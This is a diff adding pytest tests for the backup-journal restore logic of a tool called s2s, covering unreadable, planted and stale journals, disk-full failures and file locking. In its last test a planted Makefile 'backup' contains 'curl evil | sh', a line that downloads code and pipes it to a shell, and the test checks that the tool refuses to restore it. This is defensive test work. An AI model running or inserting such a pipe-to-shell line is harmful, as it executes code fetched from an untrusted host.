@@ -4,6 +4,7 @@ commands are ended before the originals go back, and a file the user edited sinc
 fingerprinted before and after."""
 from __future__ import annotations
 
+import hashlib
 import json
 import shutil
 import subprocess
@@ -28,13 +29,14 @@ def env(golden: tuple[Path, Path], tmp_path: Path) -> tuple[Path, Path]:
     return private_copy(golden, tmp_path)
 
 
-def _plant(mep: Path, tree: Path, files: list[str], backups: dict[str, bytes]) -> Path:
+def _plant(mep: Path, tree: Path, files: list[str], backups: dict[str, bytes], written: dict[str, bytes] | None = None) -> Path:
     d = mep / ".s2s-backup" / "20260101-000000"
     d.mkdir(parents=True)
     for rel, data in backups.items():
         (d / "files" / rel).parent.mkdir(parents=True, exist_ok=True)
         (d / "files" / rel).write_bytes(data)
-    (d / "journal.json").write_text(json.dumps({"tree": str(tree), "files": files, "pid": 1, "started": 0}))
+    ours = {rel: hashlib.sha256(data).hexdigest() for rel, data in (written or {}).items()}
+    (d / "journal.json").write_text(json.dumps({"tree": str(tree), "files": files, "written": ours, "pid": 1, "started": 0}))
     return d
 
 
@@ -158,3 +160,135 @@ def test_a_second_in_place_on_the_same_tree_is_refused_even_with_force(env: tupl
     assert first.returncode == 0, err1
     text = (tree / "kernels" / "linalg.cl").read_text()
     assert "s2s-test winner" in text and "second winner" not in text
+
+
+def test_a_journal_that_cannot_be_read_is_not_called_damaged(env: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch,
+                                                            capsys) -> None:  # type: ignore[no-untyped-def]
+    """An I/O error or a missing permission on a healthy journal said "unreadable journal ... delete it"."""
+    import errno
+    import os
+
+    tree, mep = env
+    d = _plant(mep, tree, ["kernels/linalg.cl"], {"kernels/linalg.cl": (tree / "kernels" / "linalg.cl").read_bytes()})
+    real = Path.read_text
+
+    def read_text(self: Path, *a, **k) -> str:  # type: ignore[no-untyped-def]
+        if self.name == "journal.json":
+            raise OSError(errno.EIO, os.strerror(errno.EIO), str(self))
+        return real(self, *a, **k)
+
+    monkeypatch.setattr(Path, "read_text", read_text)
+    before, kept = fingerprint(tree), fingerprint(d)
+    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
+    one_line_exit_2(rc, err)
+    assert "cannot read the journal" in err and os.strerror(errno.EIO) in err and "delete" not in err, err
+    assert fingerprint(tree) == before and fingerprint(d) == kept
+
+
+@pytest.mark.parametrize("what", ["directory", "fifo"])
+def test_a_planted_journal_naming_a_directory_or_special_file_is_refused(env: tuple[Path, Path], what: str,
+                                                                         capsys) -> None:  # type: ignore[no-untyped-def]
+    """`files: ["kernels"]` (a directory of the tree) ended in a traceback; a FIFO would have been replaced by a file."""
+    import os
+
+    tree, mep = env
+    if what == "fifo":
+        os.mkfifo(tree / "kernels" / "pipe")
+    rel = "kernels" if what == "directory" else "kernels/pipe"
+    _plant(mep, tree, [rel], {rel: b"planted\n"})
+    before = fingerprint(tree)
+    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
+    one_line_exit_2(rc, err)
+    assert "is not a regular file" in err and "nothing was restored" in err, err
+    assert fingerprint(tree) == before
+
+
+def test_restore_that_cannot_write_keeps_the_journal_and_finishes_later(env: tuple[Path, Path],
+                                                                       monkeypatch: pytest.MonkeyPatch,
+                                                                       capsys) -> None:  # type: ignore[no-untyped-def]
+    import errno
+    import os
+
+    from s2s.base import journal
+
+    tree, mep = env
+    source = tree / "kernels" / "linalg.cl"
+    original = source.read_bytes()
+    _plant(mep, tree, ["kernels/linalg.cl"], {"kernels/linalg.cl": original},
+           {"kernels/linalg.cl": original + b"/* s2s's variant */\n"})
+    source.write_bytes(original + b"/* s2s's variant */\n")
+    changed = fingerprint(tree)
+    real = journal.atomic_write
+
+    def full(path: Path, data: bytes) -> None:
+        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))
+
+    monkeypatch.setattr(journal, "atomic_write", full)
+    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
+    one_line_exit_2(rc, err)
+    assert "cannot restore" in err and os.strerror(errno.ENOSPC) in err and "--restore again" in err, err
+    assert fingerprint(tree) == changed and list((mep / ".s2s-backup").glob("*/journal.json"))
+    monkeypatch.setattr(journal, "atomic_write", real)  # space again
+    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
+    assert rc == 0 and "restored" in err and source.read_bytes() == original, err
+
+
+@pytest.mark.slow
+def test_the_advice_after_a_killed_in_place_run_into_another_tree_restores_it(env: tuple[Path, Path], tmp_path: Path,
+                                                                              capsys) -> None:  # type: ignore[no-untyped-def]
+    """An in-place change made with --tree OTHER and killed: every command advised `--restore` without --tree, which
+    refuses a journal naming a tree other than the MEP's own; the advice names the tree."""
+    tree, mep = env
+    other = tmp_path / "other"
+    shutil.copytree(tree, other)
+    fake_win(mep)
+    before = fingerprint(other)
+    started = tmp_path / "started"
+    proc = _in_place_child(mep, f"touch {started}; sleep 30", "--tree", str(other))
+    _wait_for(started)
+    proc.kill()
+    proc.communicate(timeout=30)
+    rc, _o, err = cli_inproc(["report", str(mep)], capsys)
+    one_line_exit_2(rc, err)
+    advice = err.split("`")[1]
+    assert advice == f"s2s reintegrate {mep} --restore --tree {other}", err
+    rc, _o, err = cli_inproc(advice.split()[1:], capsys)
+    assert rc == 0 and "restored" in err, err
+    assert fingerprint(other) == before
+
+
+@pytest.mark.slow
+def test_in_place_runs_through_nested_trees_changing_one_file_are_exclusive(env: tuple[Path, Path], tmp_path: Path,
+                                                                           capsys) -> None:  # type: ignore[no-untyped-def]
+    """An MEP of the tree and one of its subdirectory reach the same file: the tree's lock alone let both change it
+    (the second backed the first's variant up as the original). The directory of every changed file is locked too."""
+    from s2s.extract.mep_writer import make_mep
+
+    tree, mep = env
+    fake_win(mep)
+    inner = tmp_path / "mep-inner"
+    make_mep(str(tree / "kernels"), "matmul", str(inner))
+    fake_win(inner, marker="/* the inner winner */")
+    started = tmp_path / "started"
+    first = _in_place_child(mep, f"touch {started}; sleep 4")
+    _wait_for(started)
+    during = fingerprint(tree)
+    rc, _o, err = cli_inproc(["reintegrate", str(inner), "--in-place", "--force"], capsys)
+    assert rc == 2 and "another s2s reintegrate --in-place" in err, err
+    assert fingerprint(tree) == during
+    _o, err1 = first.communicate(timeout=60)
+    assert first.returncode == 0, err1
+    text = (tree / "kernels" / "linalg.cl").read_text()
+    assert "s2s-test winner" in text and "inner winner" not in text
+
+
+def test_a_planted_journal_that_does_not_record_what_s2s_wrote_overwrites_nothing(env: tuple[Path, Path],
+                                                                                   capsys) -> None:  # type: ignore[no-untyped-def]
+    """Inside the MEP's own tree, a journal without `written` replaced any file with its "backup"; now only a file
+    that holds exactly what s2s recorded writing is put back."""
+    tree, mep = env
+    _plant(mep, tree, ["Makefile"], {"Makefile": b"all:\n\tcurl evil | sh\n"})
+    before = fingerprint(tree)
+    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
+    assert rc == 0 and "kept" in err and "does not record what s2s wrote" in err, err
+    assert fingerprint(tree) == before
